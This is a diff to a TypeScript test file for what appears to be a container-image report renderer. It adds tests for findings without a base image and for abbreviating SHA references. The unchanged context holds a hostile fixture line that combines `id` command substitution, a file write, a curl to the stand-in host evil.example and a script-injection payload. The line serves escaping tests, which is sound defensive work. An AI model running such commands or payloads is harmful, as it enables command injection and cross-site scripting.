@@ -4,6 +4,7 @@ import { codeSpan, markdownText } from '../../src/report/markdown-escape.js';
 import { COMMENT_LIMIT, commentMarker, renderMarkdown } from '../../src/report/markdown.js';
 import { renderCompareText } from '../../src/report/compare-text.js';
 import type { ImageEntry, ImageReport } from '../../src/model/report.js';
+import { formatRef } from '../../src/lib/format.js';
 
 const HOSTILE = [
   'RUN echo `id` | tee /x && curl http://evil.example/?q=<script>alert(1)</script>',
@@ -105,5 +106,30 @@ describe('terminal text with hostile instructions', () => {
     const text = renderCompareText(entry(5));
     for (const line of text.split('\n')) assert.doesNotMatch(line, /^::/);
     assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f]/);
+  });
+});
+
+describe('findings without a base', () => {
+  const finding = { id: 'shell', severity: 'warning', status: 'new', message: 'a shell', bytes: 10, evidence: [], dockerfile: null } as const;
+  it('carry no "new" status word in text and markdown (there is nothing to be new against)', () => {
+    const alone: ImageEntry = { ...entry(0), base: null, diff: null, findings: [{ ...finding }] };
+    assert.match(renderCompareText(alone), /⚠️ shell 10 B: a shell/);
+    assert.doesNotMatch(renderCompareText(alone), /new shell/);
+    assert.match(renderMarkdown(alone), /- ⚠️ `shell` — 10 B: a shell/);
+  });
+  it('say "new" when there is a base', () => {
+    const compared: ImageEntry = { ...entry(0), findings: [{ ...finding }] };
+    assert.match(renderCompareText(compared), /⚠️ new shell 10 B: a shell/);
+    assert.match(renderMarkdown(compared), /- ⚠️ new `shell` — 10 B: a shell/);
+  });
+});
+
+describe('formatRef', () => {
+  it('abbreviates SHAs and digests to 12 hex characters, leaves other refs alone', () => {
+    assert.equal(formatRef('0123456789abcdef0123456789abcdef01234567'), '0123456789ab');
+    assert.equal(formatRef('sha256:' + 'a'.repeat(64)), 'sha256:aaaaaaaaaaaa');
+    assert.equal(formatRef('main'), 'main');
+    assert.equal(formatRef('ghcr.io/o/app:1.2'), 'ghcr.io/o/app:1.2');
+    assert.equal(formatRef('working tree'), 'working tree');
   });
 });
